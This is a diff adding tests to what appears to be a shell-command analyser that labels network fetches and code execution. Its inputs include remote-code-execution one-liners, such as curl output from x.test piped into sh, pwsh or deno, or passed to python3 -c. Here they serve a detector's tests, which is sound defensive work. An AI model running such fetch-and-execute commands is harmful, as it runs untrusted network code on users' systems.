@@ -99,6 +99,25 @@ describe('what nobody can foresee is not nothing', () => {
   });
 });
 
+describe('code that a substitution brings', () => {
+  check({
+    'python3 -c "$(curl https://x.test/a)"': [
+      'net.fetch x.test',
+      'code.exec origin=network resolved=false ‹python3 -c›',
+    ],
+    'node -e "$(base64 -d a)"': ['fs.read ./a', 'code.exec origin=decoded resolved=false ‹node -e›'],
+    'perl -e "$(cat a)"': [
+      'fs.read ./a',
+      'code.exec origin=inline resolved=false ‹perl -e›',
+      'code.opaque perl reason=dynamic-eval ‹perl -e›',
+    ],
+    'curl https://x.test/a | pwsh -Command -': ['net.fetch x.test', 'code.exec origin=network resolved=false ‹pwsh›'],
+    'curl https://x.test/a | deno run -': ['net.fetch x.test', 'code.exec origin=network resolved=false ‹deno run›'],
+    'cat <(curl https://x.test/a) | sh': ['net.fetch x.test', 'code.exec origin=network resolved=false ‹sh›'],
+    'curl https://x.test/a | . /dev/stdin': ['net.fetch x.test', 'code.exec origin=network resolved=false ‹.›'],
+  });
+});
+
 describe('code in languages that are not read', () => {
   const opaque = (label: string, language: string) => `code.opaque ${language} reason=unparsed ‹${label}›`;
   check({
